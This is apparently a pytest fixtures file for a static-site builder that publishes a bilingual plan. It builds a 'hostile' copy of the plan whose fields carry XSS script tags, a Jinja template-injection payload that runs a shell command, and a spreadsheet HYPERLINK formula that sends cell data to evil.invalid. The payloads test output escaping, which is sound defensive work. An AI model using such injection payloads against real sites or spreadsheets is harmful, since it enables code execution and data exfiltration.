from __future__ import annotations

import fcntl
import functools
import http.server
import importlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
import traceback
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from lnplan import yamlio  # noqa: E402
from lnplan.browser import BrowserNotFound, find_browser  # noqa: E402
from lnplan.cli import run_cli  # noqa: E402
from lnplan.loader import load_plan  # noqa: E402
from lnplan.reading.files import PLAN_DIR  # noqa: E402

PY = sys.executable
SITE_URL = "http://127.0.0.1:8000/"


@pytest.fixture(scope="session")
def plan():
    return load_plan()


@pytest.fixture
def plan_copy(tmp_path):
    """A writable copy of plan/ and a helper to edit one of its files as data."""
    dest = tmp_path / "plan"
    shutil.copytree(PLAN_DIR, dest)

    class Copy:
        dir = dest

        def edit(self, rel: str, change) -> None:
            path = dest / rel
            data, _ = yamlio.load(path.read_text(encoding="utf-8"))
            change(data)
            path.write_text(yamlio.dump(data), encoding="utf-8")

        def write(self, rel: str, text: str) -> None:
            (dest / rel).write_text(text, encoding="utf-8")

        def read(self, rel: str) -> str:
            return (dest / rel).read_text(encoding="utf-8")

    return Copy()


# ---- command lines ---------------------------------------------------------------------------------------------


def run(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    """`python -m ARGS` as a process of its own (for the few tests that need one: signals, a fresh interpreter)."""
    return subprocess.run([PY, "-m", *args], cwd=ROOT, capture_output=True, text=True, timeout=timeout)


def invoke(module: str, *args: str) -> subprocess.CompletedProcess:
    """`python -m MODULE ARGS` in this process: the module's main(argv) inside run_cli, as its `__main__` runs it,
    with what it prints captured. An exception run_cli lets through is printed as the interpreter would print it
    (a traceback, exit 1), so that tests asserting "no traceback" still see one."""
    main = importlib.import_module("lnplan.__main__" if module == "lnplan" else module).main
    out, err = io.StringIO(), io.StringIO()
    previous = signal.getsignal(signal.SIGTERM)  # run_cli turns SIGTERM into Ctrl-C
    try:
        with redirect_stdout(out), redirect_stderr(err):
            try:
                code = run_cli(lambda: main(list(args)))
            except SystemExit as exc:  # argparse's usage errors
                code = exc.code if isinstance(exc.code, int) else 1
            except Exception:
                traceback.print_exc()
                code = 1
    finally:
        signal.signal(signal.SIGTERM, previous)
    return subprocess.CompletedProcess([module, *args], code, out.getvalue(), err.getvalue())


def validate(plan_dir: Path) -> subprocess.CompletedProcess:
    """`python -m lnplan validate --plan DIR`, in this process."""
    return invoke("lnplan", "validate", "--plan", str(plan_dir))


# ---- builds shared by the whole session ------------------------------------------------------------------------


def shared(tmp_path_factory, name: str, make) -> dict:
    """What make(directory) returns (JSON data), made once per test session. Under pytest-xdist each worker is a
    process with its own session fixtures: the first worker to ask makes it, under a lock, and the others read it."""
    root = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        root = root.parent  # the directory every worker's own temporary directory is in
    d, done = root / f"shared-{name}", root / f"shared-{name}.json"
    with open(root / f"shared-{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not done.exists():
            shutil.rmtree(d, ignore_errors=True)  # a worker that failed to make it
            d.mkdir()
            done.write_text(json.dumps(make(d)), encoding="utf-8")
    return json.loads(done.read_text(encoding="utf-8"))


def engines_of(marker: str) -> list[int]:
    """Processes whose command line mentions marker (an engine building into a given temporary directory)."""
    pids = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                cmd = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if marker in cmd and "mkdocs" in cmd and int(d.name) != os.getpid():
                pids.append(int(d.name))
    return pids


def _start(out: Path) -> subprocess.Popen:
    return subprocess.Popen(
        [PY, "-m", "lnplan.build", "--out", str(out), "--site-url", SITE_URL],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )


def _temp_with_engines(parent: Path, pid: int, timeout: float = 180) -> Path:
    """Wait until the build `pid` has its temporary directory and both engines running; return the directory."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for d in parent.glob(".build-*"):
            owner = d / "owner.pid"
            if owner.exists() and owner.read_text() == str(pid) and len(engines_of(str(d))) == 2:
                return d
        time.sleep(0.2)
    raise AssertionError("the build never started its engines")


def _build_runs(parent: Path) -> dict:
    """Three builds into the same parent, `python -m lnplan.build` as `make build` runs it: one that finishes (the
    session's build of the plan), and beside it one killed (SIGKILL), then one interrupted (Ctrl-C) that starts
    after the kill (and so finds the killed build's temporary directory left behind)."""
    finished = _start(parent / "finished")
    killed = _start(parent / "killed")
    killed_tmp = _temp_with_engines(parent, killed.pid)
    killed.kill()
    killed.wait()

    interrupted_out = parent / "interrupted"
    interrupted_out.mkdir()
    (interrupted_out / ".lnplan-site").write_text("")
    (interrupted_out / "index.html").write_text("the previous site")
    interrupted = _start(interrupted_out)
    interrupted_tmp = _temp_with_engines(parent, interrupted.pid)
    os.killpg(interrupted.pid, signal.SIGINT)  # what Ctrl-C in a terminal does
    i_out, i_err = interrupted.communicate(timeout=120)
    f_out, f_err = finished.communicate(timeout=900)
    time.sleep(1)
    return {
        "parent": str(parent),
        "killed_tmp": str(killed_tmp),
        "interrupted": [interrupted.returncode, i_out + i_err],
        "interrupted_tmp": str(interrupted_tmp),
        "interrupted_out": str(interrupted_out),
        "finished": [finished.returncode, f_out + f_err],
        "temps_left": [str(p) for p in parent.glob(".build-*")],
    }


@pytest.fixture(scope="session")
def build_runs(tmp_path_factory) -> dict:
    runs = shared(tmp_path_factory, "builds", _build_runs)
    for key in ("parent", "killed_tmp", "interrupted_tmp", "interrupted_out"):
        runs[key] = Path(runs[key])
    return runs


@pytest.fixture(scope="session")
def built_site(build_runs):
    """The real plan built once (both languages), as `make build` does it (the build of `build_runs` that was
    left to finish while another was interrupted)."""
    code, output = build_runs["finished"]
    assert code == 0, output
    return build_runs["parent"] / "finished"


# ---- the hostile plan: hostile text in every kind of field, a new measure and a new unit -------------------------

HOSTILE = "<script>alert(1)</script>{{ 7*7 }}{% raw %}|*bold*"
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'


def payload(tag: str, proof: Path) -> str:
    """A spreadsheet formula start, template syntax that would print 49, run a shell command (creating `proof`) and
    drop text if evaluated, markup that would run a script or make text bold if it were not escaped, and a double
    quote that would end an attribute (and add one) where the text is an attribute's value."""
    return (
        f'={tag} " onmouseover="alert(2) {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} '
        f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <script>alert(1)</script> <b>bold</b> & |x|"
    )


def hostile_plan(plan_dir: Path, proof: Path) -> dict[str, str]:
    """Copy the plan to plan_dir and put a payload (tagged) into every kind of text a page, download or feed shows;
    add measure 2.1.6, led by a new unit, and HOSTILE text in measure 2.1.2. The payloads by tag."""
    shutil.copytree(PLAN_DIR, plan_dir)
    texts = {}

    def edit(rel, change):
        path = plan_dir / rel
        data, _ = yamlio.load(path.read_text(encoding="utf-8"))
        change(data)
        path.write_text(yamlio.dump(data), encoding="utf-8")

    def put(obj, key, tag):
        texts[tag] = obj[key] = payload(tag, proof)

    def chapter2(d):
        put(d["title"], "en", "CH-EN")  # page title and navigation of every English page
        put(d["title"], "zh", "CH-ZH")
        put(d["sections"][0]["title"], "en", "SEC-EN")  # a heading and breadcrumbs
        items = d["sections"][0]["items"]
        put(items[0]["title"], "en", "ITEM-EN")  # the measure page's h1 and title, task cards
        put(items[0]["text"], "en", "TEXT-EN")  # description, JSON-LD, body
        items[0]["text"]["en"] = texts["TEXT-EN"] = "@SUM(1+1) " + items[0]["text"]["en"]  # a formula start in CSV
        items.append(
            {
                "id": "2.1.6",
                "number": "6",
                "title": {"zh": "建设测试中心", "en": "Build a test center"},
                "text": {"zh": "在营口建设测试中心。", "en": "Build a test center in Yingkou."},
                "responsibility": {
                    "raw": "省新设局、省商务厅等",
                    "groups": [{"units": ["new-bureau", "commerce"], "etc": True}],
                },
                "places": ["yingkou"],
            }
        )
        items[1]["title"] = {"zh": HOSTILE, "en": HOSTILE}
        items[1]["text"]["zh"] += HOSTILE
        items[1]["text"]["en"] += HOSTILE

    edit("chapters/2.yaml", chapter2)

    def units(d):
        u = {x["id"]: x for x in d["units"]}
        u["commerce"]["name"]["en"] = FORMULA
        put(u["development-and-reform-commission"]["name"], "en", "UNIT-EN")  # tables, unit page title
        put(u["development-and-reform-commission"]["full_name"], "zh", "UNITFULL-ZH")  # title attributes
        d["units"].append(
            {
                "id": "new-bureau",
                "name": {"zh": "省新设局", "en": "Provincial New Bureau"},
                "full_name": {"zh": "辽宁省新设局", "en": "Liaoning Provincial New Bureau"},
                "kind": "provincial-agency",
                "name_en_source": {
                    "status": "edition",
                    "note": {"zh": "本版译法。", "en": "This edition's rendering."},
                },
            }
        )

    edit("units.yaml", units)
    edit("places.yaml", lambda d: put(next(p for p in d["places"] if p["id"] == "dalian")["name"], "en", "PLACE-EN"))
    edit("targets.yaml", lambda d: put(d["targets"][0]["metric"], "en", "METRIC-EN"))
    edit("glossary.yaml", lambda d: put(d["terms"][0]["note"], "en", "NOTE-EN"))
    edit(
        "document.yaml",
        lambda d: (put(d["preamble"], "en", "PREAMBLE-EN"), put(d["notice"]["text"], "zh", "NOTICE-ZH")),
    )

    # The payloads replace texts that translation and data corrections describe; keep only the source corrections.
    def corrections(d):
        d["corrections"] = [r for r in d["corrections"] if r["kind"] == "source"]
        put(d["corrections"][0]["reason"], "en", "CORR-EN")  # the corrections page's table

    edit("corrections.yaml", corrections)
    edit("places.yaml", lambda d: put(d["sources"][0]["title"], "en", "SOURCE-EN"))  # the map's list of sources
    edit(
        "place_names.yaml", lambda d: put(next(n for n in d["names"] if n["form"] == "桓仁")["name"], "en", "FORM-EN")
    )  # card reasons
    edit("releases.yaml", lambda d: put(d["releases"][-1]["summary"], "en", "RELEASE-EN"))  # changes page and feed
    edit("edition.yaml", lambda d: put(d["title"], "en", "SITE-EN"))  # the site's name: every page's title and header
    edit("document.yaml", lambda d: put(d["record"]["title"], "en", "RECORD-EN"))  # the document box
    about = plan_dir / "about.en.md"  # the About page's prose: a heading and a paragraph
    prose = about.read_text(encoding="utf-8").split("\n")
    texts["ABOUT-H-EN"], texts["ABOUT-EN"] = payload("ABOUT-H-EN", proof), payload("ABOUT-EN", proof)
    prose[0] = f"## {texts['ABOUT-H-EN']} {{#authority}}"
    prose[2] = texts["ABOUT-EN"]
    about.write_text("\n".join(prose), encoding="utf-8")
    # The releases record the corrections they contain: keep those that are still there.
    edit(
        "releases.yaml",
        lambda d: [r.__setitem__("corrections", [c for c in r["corrections"] if c <= "C005"]) for r in d["releases"]],
    )
    return texts


def _hostile(root: Path) -> dict:
    proof = root / "code-ran"
    texts = hostile_plan(root / "plan", proof)
    out = root / "site"
    r = run("lnplan.build", "--plan", str(root / "plan"), "--out", str(out), "--site-url", SITE_URL, timeout=900)
    return {"site": str(out), "proof": str(proof), "texts": texts, "code": r.returncode, "stderr": r.stderr}


@pytest.fixture(scope="session")
def hostile(tmp_path_factory) -> dict:
    """The hostile plan built once, by `python -m lnplan.build` in a process of its own."""
    built = shared(tmp_path_factory, "hostile", _hostile)
    assert built["code"] == 0, built["stderr"]
    return {"site": Path(built["site"]), "proof": Path(built["proof"]), "texts": built["texts"]}


# ---- a browser and the session's site on 127.0.0.1, for every real-browser test -------------------------------------

BROWSER_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
    "--disable-dev-shm-usage",
    # No request leaves the machine, as for a reader with no third-party host in reach: every host but the test
    # server's fails to resolve (test_browser.Watched records which were asked for). Blocking them in the browser
    # rather than by Playwright's routing keeps each page's HTTP cache on (a routed page has none).
    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
]


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture(scope="session")
def server(built_site):
    handler = functools.partial(Quiet, directory=str(built_site))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/"
    httpd.shutdown()


@pytest.fixture(scope="module")  # not the session's: Playwright's event loop would stay on for asyncio tests
def browser():
    try:
        chromium = find_browser()
    except BrowserNotFound as exc:
        pytest.fail(f"{exc} (`make browser-deps` installs Chromium on Debian)", pytrace=False)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=chromium, args=BROWSER_ARGS)
        yield b
        b.close()


@pytest.fixture(scope="module")
def context(browser):
    """One browser context for a module's pages, as one reader's browser: pages share its cache (the theme's
    assets, Pagefind's index), not their state (each test opens its own page)."""
    c = browser.new_context()
    yield c
    c.close()
